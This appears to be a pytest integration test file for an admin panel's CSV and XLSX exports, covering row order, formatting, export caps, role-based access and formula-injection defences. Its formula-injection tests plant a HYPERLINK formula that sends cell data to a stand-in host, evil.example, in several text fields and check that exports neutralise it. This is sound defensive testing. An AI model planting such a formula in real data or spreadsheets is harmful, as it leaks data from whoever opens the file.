"""List exports over HTTP: the rows the list shows, cells a spreadsheet cannot run, the export cap, who may export.

Every export here is fetched through the link in the list page's Export menu, as a staff member would click it.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from html import unescape

import pytest
import sqlalchemy as sa
from sqladmin import ModelView

from admin.registry import ADMIN_VIEWS
from admin.roles import role_may
from app.accounts.models import Role
from app.actors import ActorKind
from app.audit.services import diff, record
from app.catalog.models import Category, Service
from app.i18n import BERLIN
from app.orders.models import EventKind, Order, OrderEvent
from reports.cells import FORMULA_TRIGGERS
from tests import factories
from tests.integration.admin.helpers import ORDER_NUMBER, find_admin, login_as
from tests.spreadsheets import xlsx_cells

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
NEUTRALISED = "'" + HOSTILE
EXPORT_LINK = re.compile(r'data-testid="export-(\w+)"\s+href="([^"]+)"')
BERLIN_TIME = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$")
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def export_links(page: str) -> dict[str, str]:
    """The list page's Export menu: export type -> URL (as the browser would follow it)."""
    return {kind: unescape(url) for kind, url in EXPORT_LINK.findall(page)}


def listed_numbers(page: str) -> list[str]:
    """Order numbers in the order the list shows them."""
    return list(dict.fromkeys(ORDER_NUMBER.findall(page)))


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def export_of(web, list_url: str, params: dict[str, str] | None = None, kind: str = "csv"):
    """Open the list, follow its Export menu's link for ``kind``; returns (list page, export response)."""
    page = await web.get(list_url, params=params)
    assert page.status_code == 200, page.text[:300]
    links = export_links(page.text)
    assert kind in links, f"no {kind} export in the menu of {list_url}"
    return page.text, await web.get(links[kind])


async def set_created_at(session, order: Order, moment: datetime) -> None:
    await session.execute(sa.update(Order).where(Order.id == order.id).values(created_at=moment))


async def lindenblatt_orders(session) -> dict[str, list[str]]:
    """Orders of two customers, paid and unpaid, recent and older; committed.

    Returns the numbers by what they are: "expected" are the Lindenblatt orders that are paid and from the last
    7 days, oldest first.
    """
    now = datetime.now(UTC)
    lindenblatt = await factories.customer(session, name="Anna Lindenblatt", email="anna@lindenblatt.example")
    other = await factories.customer(session, name="Bernd Berg", email="bernd@berg.example")
    expected: list[tuple[datetime, str]] = []
    for hours_ago in (5, 30, 70, 120):  # paid, recent: in the filtered list
        order = await factories.paid_order(session, buyer=lindenblatt)
        moment = now - timedelta(hours=hours_ago)
        await set_created_at(session, order, moment)
        expected.append((moment, order.number))
    old = await factories.paid_order(session, buyer=lindenblatt)  # paid, 20 days ago: outside "last 7 days"
    await set_created_at(session, old, now - timedelta(days=20))
    unpaid = (await factories.place_order(session, buyer=lindenblatt)).order  # recent, not paid
    await set_created_at(session, unpaid, now - timedelta(hours=2))
    for hours_ago in (1, 50):  # paid, recent, another customer
        order = await factories.paid_order(session, buyer=other)
        await set_created_at(session, order, now - timedelta(hours=hours_ago))
    await session.commit()
    return {"expected": [number for _moment, number in sorted(expected)], "unpaid": [unpaid.number]}


FILTERED = {"created_at": "7d", "status": "paid", "search": "lindenblatt", "sortBy": "created_at", "sort": "asc"}


async def test_the_export_of_a_filtered_orders_list_holds_exactly_its_rows_in_its_order(web, session):
    orders = await lindenblatt_orders(session)
    await login_as(session, web, Role.FINANCE)

    page, export = await export_of(web, "/admin/order/list", FILTERED)

    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    assert "attachment" in export.headers["content-disposition"]
    assert listed_numbers(page) == orders["expected"]
    assert [row["Number"] for row in parse_csv(export.text)] == orders["expected"]


async def test_the_export_holds_every_page_of_the_list_not_only_the_one_shown(web, session):
    orders = await lindenblatt_orders(session)
    await login_as(session, web, Role.FINANCE)

    page, export = await export_of(web, "/admin/order/list", {**FILTERED, "page": "2", "pageSize": "2"})

    assert listed_numbers(page) == orders["expected"][2:]
    assert [row["Number"] for row in parse_csv(export.text)] == orders["expected"]


async def test_the_unfiltered_export_holds_every_order(web, session):
    await lindenblatt_orders(session)
    await login_as(session, web, Role.FINANCE)
    total = await session.scalar(sa.select(sa.func.count()).select_from(Order))

    _page, export = await export_of(web, "/admin/order/list")

    assert len(parse_csv(export.text)) == total == 8


async def test_the_orders_export_shows_labels_berlin_times_plain_money_and_empty_nulls(web, session):
    await lindenblatt_orders(session)
    await login_as(session, web, Role.FINANCE)

    _page, export = await export_of(web, "/admin/order/list", {"search": "lindenblatt", "sortBy": "created_at"})
    rows = parse_csv(export.text)

    stored_orders = await session.scalars(sa.select(Order).execution_options(populate_existing=True))
    stored = {order.number: order for order in stored_orders.unique().all()}
    for row in rows:
        order = stored[row["Number"]]
        assert row["Created"] == order.created_at.astimezone(BERLIN).strftime("%Y-%m-%d %H:%M:%S")
        assert BERLIN_TIME.match(row["Created"])
        assert Decimal(row["Gross"]) == order.gross
        assert PLAIN_NUMBER.match(row["Gross"])
        assert row["Currency"] == "EUR"
        assert row["Customer"] == "Anna Lindenblatt"
        assert row["Customer email"] == "anna@lindenblatt.example"
    statuses = {(row["Status"], row["Payment"]) for row in rows}
    assert statuses == {("paid", "paid"), ("pending payment", "unpaid")}
    unpaid = next(row for row in rows if row["Payment"] == "unpaid")
    assert unpaid["Paid"] == ""
    assert "None" not in export.text


async def test_the_xlsx_export_holds_the_same_rows(web, session):
    orders = await lindenblatt_orders(session)
    await login_as(session, web, Role.FINANCE)

    _page, export = await export_of(web, "/admin/order/list", FILTERED, kind="xlsx")

    assert export.status_code == 200
    assert export.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert export.headers["content-disposition"].endswith('.xlsx"')
    rows, sheet_xml = xlsx_cells(export.content)
    assert "<f>" not in sheet_xml
    assert [value for _kind, value in (row[0] for row in rows[1:])] == orders["expected"]


# -- formula injection -----------------------------------------------------------------------------------------


async def hostile_records(session) -> None:
    """A customer, a category, a service, an order note and an audit entry whose text is a formula; committed."""
    customer = await factories.customer(session, name=HOSTILE, email="evil@example.com")
    service = await factories.service(session)
    await session.execute(sa.update(Service).where(Service.id == service.id).values(name_en=HOSTILE))
    await session.execute(sa.update(Category).where(Category.id == service.category_id).values(name_en=HOSTILE))
    service = await factories.reload_service(session, service.id)
    order = await factories.paid_order(session, buyer=customer, items=[(service, 1000, "https://www.instagram.com/x/")])
    session.add(OrderEvent(order_id=order.id, kind=EventKind.NOTE, actor_kind=ActorKind.STAFF, note=HOSTILE))
    record(
        session,
        actor_id=None,
        actor_label="-attacker@example.com",
        action="update",
        entity_type="customer",
        entity_id=customer.id,
        changes=diff({"name": "Anna"}, {"name": HOSTILE}),
    )
    await session.commit()


def assert_no_cell_runs_as_a_formula(text: str, where: str) -> None:
    for line, row in enumerate(csv.reader(io.StringIO(text)), start=1):
        for value in row:
            if value.startswith(FORMULA_TRIGGERS):
                assert PLAIN_NUMBER.match(value), f"{where}, line {line}: {value!r} would run as a formula"


EXPORTS_WITH_THE_PAYLOAD = [
    ("customer", "Name", NEUTRALISED),
    ("order", "Customer", NEUTRALISED),
    ("order", "Services", NEUTRALISED + " × 1000"),
    ("service", "Name (English)", NEUTRALISED),
    ("category", "Name (English)", NEUTRALISED),
    ("order-line", "Service", NEUTRALISED),
    ("order-event", "Note", NEUTRALISED),
    ("audit-log", "Who", "'-attacker@example.com"),
]


@pytest.mark.parametrize(("identity", "column", "shown"), EXPORTS_WITH_THE_PAYLOAD)
async def test_a_formula_typed_into_a_text_field_comes_out_neutralised(web, session, identity, column, shown):
    await hostile_records(session)
    await login_as(session, web, Role.ADMIN)

    _page, export = await export_of(web, f"/admin/{identity}/list")

    assert export.status_code == 200
    assert shown in [row[column] for row in parse_csv(export.text)]
    assert_no_cell_runs_as_a_formula(export.text, identity)


async def test_an_audit_diff_with_a_formula_exports_as_json_text_that_does_not_run(web, session):
    await hostile_records(session)
    await login_as(session, web, Role.ADMIN)

    _page, export = await export_of(web, "/admin/audit-log/list", {"search": "attacker"})

    (row,) = parse_csv(export.text)
    assert row["Changes"].startswith("{")
    assert "evil.example" in row["Changes"]
    assert row["IP address"] == ""  # recorded without an address: an empty cell


async def test_no_export_of_any_list_has_a_cell_that_runs_as_a_formula_or_reads_none(app, web, session):
    await hostile_records(session)
    await login_as(session, web, Role.ADMIN)
    exportable = [v for v in find_admin(app).views if isinstance(v, ModelView) and v.can_export]
    assert len(exportable) == 14
    for view in exportable:
        page = await web.get(f"/admin/{view.identity}/list")
        links = export_links(page.text)
        assert set(links) == {"csv", "xlsx"}, view.identity
        assert (await web.get(links["xlsx"])).status_code == 200, view.identity
        export = await web.get(links["csv"])
        assert export.status_code == 200, view.identity
        assert_no_cell_runs_as_a_formula(export.text, view.identity)
        assert all(value != "None" for row in csv.reader(io.StringIO(export.text)) for value in row), view.identity


async def test_the_xlsx_export_writes_the_formula_as_neutralised_text(web, session):
    await hostile_records(session)
    await login_as(session, web, Role.ADMIN)

    _page, export = await export_of(web, "/admin/customer/list", {"search": "evil"}, kind="xlsx")

    rows, sheet_xml = xlsx_cells(export.content)
    assert "<f>" not in sheet_xml
    assert ("s", NEUTRALISED) in rows[1]


async def test_a_null_column_exports_as_an_empty_cell(web, session):
    await factories.customer(session, name="Carla Null", email="carla@example.com")
    await session.commit()
    await login_as(session, web, Role.FINANCE)

    _page, export = await export_of(web, "/admin/customer/list", {"search": "carla"})

    (row,) = parse_csv(export.text)
    assert row["Company"] == ""
    assert row["VAT ID"] == ""
    assert "None" not in export.text


# -- the cap ---------------------------------------------------------------------------------------------------


@pytest.fixture
def export_cap(app):
    """Lowers the orders list's export cap to 3 rows for one test."""
    (view,) = [v for v in find_admin(app).views if getattr(v, "identity", None) == "order"]
    view.export_max_rows = 3
    yield 3
    del view.export_max_rows


async def test_an_export_above_the_cap_is_refused_with_a_message_and_no_file(web, session, export_cap):
    await lindenblatt_orders(session)
    await login_as(session, web, Role.FINANCE)

    _page, refused = await export_of(web, "/admin/order/list", {"created_at": "7d"})

    assert refused.status_code == 409
    assert "content-disposition" not in refused.headers
    assert refused.headers["content-type"].startswith("text/html")
    assert 'data-testid="export-refused"' in refused.text
    assert "more than 3 rows" in refused.text
    assert "reports" in refused.text
    back = re.search(r'href="([^"]+)"[^>]*data-testid="back-to-list"', refused.text)
    assert back is not None
    assert "/admin/order/list?created_at=7d" in unescape(back.group(1))


async def test_an_export_within_the_cap_is_a_file(web, session, export_cap):
    orders = await lindenblatt_orders(session)
    await login_as(session, web, Role.FINANCE)

    _page, export = await export_of(web, "/admin/order/list", {**FILTERED, "search": orders["expected"][0]})

    assert export.status_code == 200
    assert [row["Number"] for row in parse_csv(export.text)] == orders["expected"][:1]


# -- who may export --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.STAFF, Role.FINANCE], ids=str)
async def test_each_role_sees_an_export_menu_only_on_the_lists_it_may_export(app, web, session, role):
    await login_as(session, web, role)
    offered, allowed = set(), set()
    for view in find_admin(app).views:
        if not isinstance(view, ModelView):
            continue
        page = await web.get(f"/admin/{view.identity}/list")
        if page.status_code == 200 and export_links(page.text):
            offered.add(view.identity)
        if view.can_export and role_may(role, view.identity, "export"):
            allowed.add(view.identity)
    assert offered == allowed
    assert offered  # both roles export something (what exactly is pinned in test_roles.py)


@pytest.mark.parametrize("identity", ["customer", "order"])
async def test_staff_may_not_bulk_export_customers_personal_data(web, session, identity):
    await login_as(session, web, Role.STAFF)

    assert (await web.get(f"/admin/{identity}/list")).status_code == 200
    assert (await web.get(f"/admin/{identity}/export/csv")).status_code == 403
    assert (await web.get(f"/admin/{identity}/export/xlsx")).status_code == 403


async def test_only_csv_and_xlsx_are_offered(web, session):
    await login_as(session, web, Role.ADMIN)

    assert (await web.get("/admin/order/export/json")).status_code == 404
    assert set(export_links((await web.get("/admin/order/list")).text)) == {"csv", "xlsx"}


def test_every_export_column_names_a_field_or_a_computed_value():
    problems = []
    for view in ADMIN_VIEWS:
        for column in getattr(view, "column_export_list", []):
            name = column if isinstance(column, str) else column.key
            if name not in view.column_export_values and not hasattr(view.model, name.split(".", 1)[0]):
                problems.append(f"{view.__name__}.{name}")
    assert not problems, "export columns that would be empty: " + ", ".join(problems)


async def test_the_customer_export_follows_a_search_in_the_stock_list(web, session):
    for name in ("Dora Alpha", "Emil Alpha", "Fritz Beta"):
        await factories.customer(session, name=name, email=f"{name.split()[0].lower()}@example.com")
    await session.commit()
    await login_as(session, web, Role.ADMIN)

    page, export = await export_of(web, "/admin/customer/list", {"search": "alpha", "sortBy": "email", "sort": "desc"})

    assert [row["Name"] for row in parse_csv(export.text)] == ["Emil Alpha", "Dora Alpha"]
    assert page.index("emil@example.com") < page.index("dora@example.com")
    assert "fritz@example.com" not in page


async def test_the_provider_export_never_contains_the_api_key(web, session):
    await factories.provider(session, name="Panel One", api_key="secret-panel-key")
    await session.commit()
    await login_as(session, web, Role.ADMIN)

    _page, export = await export_of(web, "/admin/provider/list")
    assert "Panel One" in export.text
    assert "secret-panel-key" not in export.text
    _page, export = await export_of(web, "/admin/provider/list", kind="xlsx")
    cells = [value for row in xlsx_cells(export.content)[0] for _kind, value in row]
    assert "Panel One" in cells
    assert not any("secret-panel-key" in (value or "") for value in cells)
